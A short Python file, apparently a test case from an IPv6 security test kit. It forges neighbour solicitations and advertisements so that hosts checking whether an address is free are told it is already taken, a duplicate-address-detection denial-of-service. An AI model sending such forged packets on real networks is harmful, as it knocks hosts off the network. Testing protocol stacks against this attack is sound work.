# SPDX-License-Identifier: Apache-2.0
"""Whoever outside looks whether its address is free hears that it is taken."""
from kit import *

FAMILIES = (6,)


def attack(pot, pot1, out):
    for n in range(40):
        tentative = f"fd66::abc:{n:x}"
        out.send(ethernet(group("ff02::1:ff00:1"), out.mac, solicitation("::", tentative)))
        pot.send(ethernet(group("ff02::1"), pot.mac, advertisement(tentative, "ff02::1", tentative, pot.mac)),
                 ethernet(group("ff02::1:ff00:1"), pot.mac, solicitation("::", tentative)),
                 ethernet(group("ff02::1:ff00:1"), pot.mac, solicitation("::", pot1.ip(6))))
